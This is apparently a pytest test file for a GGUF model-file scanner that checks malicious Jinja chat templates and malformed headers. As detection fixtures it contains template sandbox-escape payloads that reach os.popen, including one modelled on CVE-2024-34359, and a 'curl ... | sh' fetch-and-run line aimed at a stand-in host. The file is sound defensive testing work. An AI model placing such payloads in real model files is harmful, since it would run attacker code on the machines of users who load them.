"""GGUF scanner: hand-built files per the spec; templates are tokenised, never rendered."""

from __future__ import annotations

import contextlib
import io
import struct
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlwarden.artifacts.artifact import Artifact
from mlwarden.artifacts.formats import Format
from mlwarden.core.errors import BudgetExceeded
from mlwarden.core.findings import Finding, Severity
from mlwarden.scanners.base import ScanContext
from mlwarden.scanners.gguf import GgufScanner
from mlwarden.scanners.gguf_template import analyse_template

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content']"
    " + '<|im_end|>' + '\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}"
    "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)
NAMESPACE = (
    "{%- set ns = namespace(system='') -%}{%- for m in messages -%}{%- if m.role == 'system' -%}"
    "{%- set ns.system = m.content -%}{%- elif m.role not in ['user', 'assistant'] -%}"
    "{{ raise_exception('Only user and assistant roles are supported!') }}{%- endif -%}{%- endfor -%}"
    "{{ bos_token }}{% if ns.system %}[SYSTEM]{{ ns.system }}[/SYSTEM]{% endif %}"
)


def _str(text: str | bytes) -> bytes:
    raw = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(raw)) + raw


def _kv_str(key: str, value: str) -> bytes:
    return _str(key) + struct.pack("<I", 8) + _str(value)


def _kv_u32(key: str, value: int) -> bytes:
    return _str(key) + struct.pack("<II", 4, value)


def _kv_str_array(key: str, values: list[str]) -> bytes:
    return _str(key) + struct.pack("<IIQ", 9, 8, len(values)) + b"".join(_str(v) for v in values)


def _tensor(name: str, dims: list[int], ggml_type: int = 0, offset: int = 0) -> bytes:
    return (
        _str(name)
        + struct.pack("<I", len(dims))
        + struct.pack(f"<{len(dims)}Q", *dims)
        + struct.pack("<IQ", ggml_type, offset)
    )


def _gguf(kvs: list[bytes], tensors: list[bytes] | None = None, data: bytes = b"", version: int = 3) -> bytes:
    tensors = tensors if tensors is not None else [_tensor("w", [4, 2], 0, 0), _tensor("b", [2], 0, 32)]
    head = b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(kvs)) + b"".join(kvs) + b"".join(tensors)
    head += b"\0" * (-len(head) % 32)
    return head + (data or b"\0" * 64)


def _base(template: str = LLAMA3) -> list[bytes]:
    return [
        _kv_str("general.architecture", "llama"),
        _kv_str("general.name", "tiny"),
        _kv_u32("general.alignment", 32),
        _kv_str_array("tokenizer.ggml.tokens", ["<s>", "</s>", "hello", "__init__"]),
        _kv_str("tokenizer.chat_template", template),
    ]


def _scan(data: bytes) -> list[Finding]:
    artifact = Artifact(path="m.gguf", format=Format.GGUF, size=len(data), opener=lambda: io.BytesIO(data))
    return list(GgufScanner().scan(artifact, ScanContext()))


def _rules(findings: list[Finding]) -> list[str]:
    return sorted(f.rule_id for f in findings)


@pytest.mark.parametrize("template", [CHATML, LLAMA3, NAMESPACE])
def test_benign_files_and_templates_are_clean(template: str, tmp_path: Path) -> None:
    data = _gguf(_base(template))
    assert _scan(data) == []
    path = tmp_path / "m.gguf"
    path.write_bytes(data)
    assert _scan(path.read_bytes()) == []


LLAMA_DRAMA = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('touch /tmp/CANARY').read() }}{% endif %}{% endfor %}"
)


@pytest.mark.parametrize(
    "template",
    [
        LLAMA_DRAMA,  # CVE-2024-34359 payload shape
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ cycler.__init__.__globals__.os.popen('id') }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ self.__init__.__globals__.__builtins__ }}",
        "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{{ ''|attr('_' ~ '_' ~ 'class' ~ '_' ~ '_') }}",
        "{{ x['__glo' + 'bals__'] }}",
        "{{ joiner.__init__ }}",
        "{% set o = os %}{{ o.system('id') }}",
        "{{ x.popen('id') }}",
        "{{ x.__class__ }}{{ ns.system }}",
    ],
)
def test_sandbox_escapes_are_critical(template: str, tmp_path: Path) -> None:
    findings = _scan(_gguf(_base(template)))
    assert _rules(findings) == ["MW-GGUF-003"], analyse_template(template)
    assert findings[0].severity == Severity.CRITICAL
    assert not Path("/tmp/CANARY").exists()


@pytest.mark.parametrize(
    "template",
    ["{{ x|attr(name) }}", "{{ lipsum }}", "{{ '{0}'.format(x) }}", "{{ request.args }}", "{{ ) }}"],
)
def test_suspicious_templates_are_medium(template: str) -> None:
    assert _rules(_scan(_gguf(_base(template)))) == ["MW-GGUF-004"]


def test_named_chat_templates_are_checked() -> None:
    kvs = [*_base(), _kv_str("tokenizer.chat_template.tool_use", "{{ x.__class__ }}")]
    findings = _scan(_gguf(kvs))
    assert _rules(findings) == ["MW-GGUF-003"] and "tool_use" in findings[0].message


def test_general_metadata_with_url_is_low() -> None:
    findings = _scan(_gguf([*_base(), _kv_str("general.source.note", "curl -s https://evil.example/x | sh")]))
    assert _rules(findings) == ["MW-GGUF-005"] and findings[0].severity == Severity.LOW


def test_header_errors() -> None:
    good = _gguf(_base())
    assert "bad magic" in _scan(b"GGUX" + good[4:])[0].message
    assert "version" in _scan(good[:4] + struct.pack("<I", 9) + good[8:])[0].message
    assert _rules(_scan(good[:40])) == ["MW-GGUF-001"]


def test_absurd_counts_are_findings_not_allocations() -> None:
    huge_tensors = b"GGUF" + struct.pack("<IQQ", 3, 1 << 40, 0)
    huge_kvs = b"GGUF" + struct.pack("<IQQ", 3, 0, 1 << 62)
    long_string = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60)
    long_array = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + _str("a") + struct.pack("<IIQ", 9, 8, 1 << 50)
    for data in (huge_tensors, huge_kvs, long_string, long_array):
        findings = _scan(data)
        assert _rules(findings) == ["MW-GGUF-002"], data[:40]
    big_dims = _gguf(_base(), [_tensor("w", [1 << 30, 1 << 30, 4], 0, 0)])
    assert _rules(_scan(big_dims)) == ["MW-GGUF-002"]


def test_tensor_info_errors() -> None:
    assert "dimensions" in _scan(_gguf(_base(), [_tensor("w", [1, 1, 1, 1, 1])]))[0].message
    assert "ggml type" in _scan(_gguf(_base(), [_tensor("w", [1], 200)]))[0].message
    findings = _scan(_gguf(_base(), [_tensor("w", [1], 0, 7), _tensor("v", [1], 0, 1 << 40)]))
    assert _rules(findings) == ["MW-GGUF-001", "MW-GGUF-001"]
    assert "power of two" in _scan(_gguf([_kv_u32("general.alignment", 24)]))[0].message


def test_duplicate_keys_and_unknown_types() -> None:
    findings = _scan(_gguf([*_base(), _kv_str("general.name", "other")]))
    assert _rules(findings) == ["MW-GGUF-001"] and "twice" in findings[0].message
    bad_type = _gguf([_str("k") + struct.pack("<I", 77)])
    assert "unknown value type" in _scan(bad_type)[0].message


def test_version_1_uses_32_bit_counts() -> None:
    kv = struct.pack("<I", 4) + b"name" + struct.pack("<I", 8) + struct.pack("<I", 3) + b"abc"
    data = b"GGUF" + struct.pack("<III", 1, 0, 1) + kv
    assert _scan(data) == []


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300))
def test_fuzz_arbitrary_bytes(data: bytes) -> None:
    with contextlib.suppress(BudgetExceeded):
        _scan(b"GGUF" + data)
        _scan(data)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_fuzz_mutated_file(data: st.DataObject) -> None:
    base = bytearray(_gguf(_base()))
    for _ in range(data.draw(st.integers(1, 6))):
        base[data.draw(st.integers(0, len(base) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(BudgetExceeded):
        _scan(bytes(base[: data.draw(st.integers(0, len(base)))]))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_fuzz_template_analysis(text: str) -> None:
    analyse_template(text)
